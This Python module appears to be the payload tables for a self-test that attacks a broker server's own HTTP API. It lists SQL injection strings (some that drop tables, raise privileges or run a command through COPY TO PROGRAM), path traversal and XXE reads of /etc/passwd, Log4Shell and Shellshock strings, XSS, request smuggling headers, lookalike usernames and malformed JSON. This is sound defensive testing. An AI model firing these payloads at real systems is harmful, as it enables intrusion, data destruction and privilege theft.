"""What those try who mean a server harm: tables, from which broker_abuse.py makes requests."""
import json

# The classes that sqlmap tries: boolean, error, union, time-based, stacked; for SQLite and
# PostgreSQL, and what other databases would take.
SQL = [
    "' OR '1'='1", "' OR '1'='1' --", "') OR ('1'='1", "\" OR \"\"=\"", "' OR 1=1/*", "1 OR 1=1", "' AND 1=2 --",
    "' AND '1'='2", "a' OR 'x' LIKE 'x", "'||'", "' || '", "\\' OR 1=1 --", "ʼ OR 1=1 --", "\ufe52 OR 1=1",
    "' AND 1=CAST((SELECT version()) AS INTEGER) --", "' AND 1=CAST(sqlite_version() AS INTEGER) --",
    "' AND (SELECT CASE WHEN 1=1 THEN 1/0 ELSE 1 END)=1 --", "' AND json_extract('{','$') --",
    "' AND extractvalue(1,concat(0x7e,version())) --", "'", "''", "\"", "`", "')", "'))", "%'", "_%", "';",
    "' UNION SELECT NULL --", "' UNION ALL SELECT NULL,NULL,NULL --", "' UNION SELECT sealed FROM resource_version --",
    "-1 UNION SELECT name,value FROM about --", "' UNION SELECT sql FROM sqlite_master --",
    "' UNION SELECT usename FROM pg_user --", "') UNION SELECT wrapped FROM store_keys --",
    "'; SELECT pg_sleep(60) --", "' AND 1=(SELECT 1 FROM pg_sleep(60)) --", "1; SELECT pg_sleep(60)",
    "' OR 60=(SELECT count(*) FROM generate_series(1,999999999)) --", "'; WAITFOR DELAY '0:1:0' --", "' AND SLEEP(60) --",
    "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(900000000)))) --",
    "'; DROP TABLE resource; --", "'; UPDATE owner SET is_operator=1; --", "'; DELETE FROM log_leaves; --",
    "'; INSERT INTO owner VALUES ('x',1,0); --", "'; ATTACH DATABASE '/tmp/tobichi-abuse' AS x; --",
    "'; COPY (SELECT 1) TO PROGRAM 'id'; --", "'; PRAGMA writable_schema=1; --", "$$; SELECT 1; $$", "?", "$1", ":a", "@a",
]
# Words that no reply may have unless the request had them.
TELLING = ["sqlite", "postgres", "pg_", "libpq", "sql", "syntax error", "no such table", "constraint", "resource_version",
           "resource_past", "owner_key", "used_token", "log_leaves", "kbs_sessions", "store_keys", "schema_steps",
           "wrap.key", "token.key", "broker.db", "/tmp/", ".c:", "src/", "0x55", "0x7f", "stack", "backtrace"]

PATHS = [
    "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..;/..;/admin", "%c0%ae%c0%ae/a",
    "%c0%af", "%e0%80%af", "%f0%80%80%af", "%252e%252e%252f", "%25%32%65", "..\\..\\a", "%5c..%5c", "%00", "a%00.key", "%0a",
    "%0d%0aSet-Cookie:%20a=b", "a;param=1", "a/./b", "a//b", ".", "..", "...", "%", "%4", "%zz", "%u002e", "%ff", "%ed%a0%80",
    "%f4%90%80%80", "~root", "a%20", "%20a", "a?b/c", "a#b", "*", "a:b", "file:///etc/passwd", "http:%2f%2fother", "%7e",
    "a%3bb", "a" * 200, "%41" * 300, "%e2%80%ae", "CON", "a|b", "a%26b", "a=b", "-", "--", "%2d%2d", "${jndi:ldap://a/b}",
    "{{7*7}}", "<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E", "%22onerror=%22",
]
# Names that look like alice's, or like none.
TWINS = ["аlice", "alicе", "ａｌｉｃｅ", "alice\u200d", "al\u200bice", "\u202ealice", "alice\u202c", "alice\u0301",
         "ALICE", "Alice", "alıce", "alice ", " alice", "alice\t", "alice\u00a0", "alice.", ".alice", "alice/", "alice%00",
         "ᴀlice", "al\u00adice", "\ufeffalice", "alice\u0000", "alice'", "operator", "OPERATOR", "оperator", "a" * 65,
         "", "alice\n", "alice\r\n", "alice,bob", "ﬀ", "\u1e9b\u0323", "alice\ud800"]

METHODS = ["HEAD", "OPTIONS", "TRACE", "CONNECT", "PATCH", "PROPFIND", "get", "GET ", "G\0T", "POST\t", "XYZZY", "DELETE" * 100]

# Header lines; each is put into a request that is good without it. False: it must be refused.
HEADERS = [
    ("Transfer-Encoding: chunked", False), ("Transfer-Encoding : chunked", False), ("Transfer-Encoding: xchunked", False),
    ("transfer-encoding: identity, chunked", False), ("Transfer-Encoding:\tchunked", False), ("Content-Length: 0", False),
    ("Content-Length: -1", False), ("Content-Length: 1e3", False), ("Content-Length: 4, 4", False), ("Content-Length:", False),
    ("Content-Length: 00000000000000000000000000000000004", False), ("Content-Length: 18446744073709551617", False),
    ("Content-Length\0: 4", False), (" Content-Length: 4", False), ("X: a\r\n b", False), ("X: a\nInjected: b", False),
    ("X: a\rInjected: b", False), ("X: \0", False), ("X: a\0b", False), ("X\0Y: a", False), ("X Y: a", False), (": a", False),
    ("X", False), ("Host: other", False), ("X: " + "a" * 20000, False), ("X: \x7f", False), ("X: \x1b[2J", False),
    ("X: \udcff", False), ("Content-Encoding: gzip", False), ("Expect: 200-ok", False),
    ("X-Forwarded-For: 127.0.0.1', (SELECT 1)) --", True), ("X-Forwarded-Host: other", True), ("X-Original-URL: /v1/owners", True),
    ("X-HTTP-Method-Override: DELETE", True), ("X-Rewrite-URL: /v1/owners", True), ("Forwarded: for=\"[::1]\"", True),
    ("Range: bytes=0-18446744073709551615", True), ("Accept: ' OR 1=1 --", True), ("Accept-Language: ../../etc/passwd", True),
    ("User-Agent: ${jndi:ldap://a/b}", True), ("User-Agent: () { :;}; id", True), ("If-None-Match: ' OR 1=1 --", True),
    ("Referer: <script>alert(1)</script>", True), ("Origin: null", True), ("Upgrade: h2c", True),
    ("Connection: close, X-Forwarded-For", True), ("Content-Type: application/x-www-form-urlencoded; charset=utf-7", True),
]
COOKIES = ["kbs-session-id=' OR '1'='1", "kbs-session-id=" + "0" * 32, "kbs-session-id=" + "f" * 33, "kbs-session-id=../../a",
           "kbs-session-id=a; kbs-session-id=b", "kbs-session-id=\"\"", "kbs-session-id", "=kbs-session-id", "kbs-session-id=%00",
           "KBS-SESSION-ID=a", "kbs-session-id=" + "a" * 5000, "; ; ;", "=" * 100, "__Host-tobichi=' OR '1'='1",
           "__Host-tobichi=" + "A" * 43, "__Host-tobichi=a; __Host-tobichi=b", "__Host-tobichi=\u0430", "$Version=1; a=b",
           "__Host-tobichi=" + "A" * 4000]

# Bodies that are no request of anybody's.
JSON = [
    b"", b" ", b"null", b"true", b"1", b"\"a\"", b"[]", b"[[]]", b"{", b"}", b"{}{}", b"{} x", b"[" * 100000,
    b"{\"a\":" * 20000 + b"1" + b"}" * 20000, b"[1" + b",1" * 200000 + b"]", b"{\"a\":1,\"a\":2}", b"\xef\xbb\xbf{}",
    "{\"value\":\"YQ==\"}".encode("utf-16"), b"{\"\\ud800\":1}", b"{\"a\":\"\\ud800\"}", b"{\"a\":\"\xed\xa0\x80\"}",
    b"{\"a\":\"\xff\"}", b"{\"a\":\"\\u0000\"}", b"{\"a\":\"\0\"}", b"{\"a\":NaN}", b"{\"a\":Infinity}", b"{\"a\":-Infinity}",
    b"{\"a\":1e400}", b"{\"a\":-1e400}", b"{\"a\":1" + b"0" * 5000 + b"}", b"{\"a\":0x10}", b"{\"a\":01}", b"{\"a\":+1}",
    b"{\"a\":.5}", b"{\"a\":1.}", b"{'a':1}", b"{a:1}", b"{\"a\":1,}", b"/**/{}", b"{\"a\":\"\n\"}", b"{\"a\":\"\\x41\"}",
    b"{\"__proto__\":{\"operator\":true}}", b"{\"constructor\":1}", b"a=b&c=d", b"<?xml version=\"1.0\"?><a/>",
    b"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", b"\x1f\x8b\x08\0", b"\xd9\xd9\xf7\xa0",
    b"{\"" + b"a" * 1000000 + b"\":1}", b"{\"a\":\"" + b"b" * 1000000 + b"\"}", b"{\"a\":\"" + b"\\u0041" * 150000 + b"\"}",
]
# In the place of a member's value.
VALUES = [None, True, 0, -1, 1 << 62, 1 << 63, 1 << 64, -(1 << 63), 1e300, 0.5, "", "\0", "\ufeff", "\u202e", "a" * 300, "a" * 70000,
          [], [[]], [None], {}, {"a": 1}, "YQ=", "YQ===", "!!!!", "../../etc/passwd", "-----BEGIN PUBLIC KEY-----"]


def bodies(good):
    """Texts of JSON: of `good`, each member in its turn with another value, absent, twice, or
    with a stranger beside."""
    for name in good:
        for value in [*VALUES, *SQL]:
            yield f"{name}={str(value)[:30]!r}", json.dumps({**good, name: value}).encode("utf-8", "surrogatepass")
        rest = {other: value for other, value in good.items() if other != name}
        yield f"no {name}", json.dumps(rest).encode()
        twice = json.dumps(good)[:-1] + f", {json.dumps(name)}: {json.dumps(good[name])}}}"
        yield f"two of {name}", twice.encode()
        yield f"{name} misspelt", json.dumps({**rest, name.upper(): good[name]}).encode()
    yield "a stranger", json.dumps({**good, "is_operator": 1}).encode()
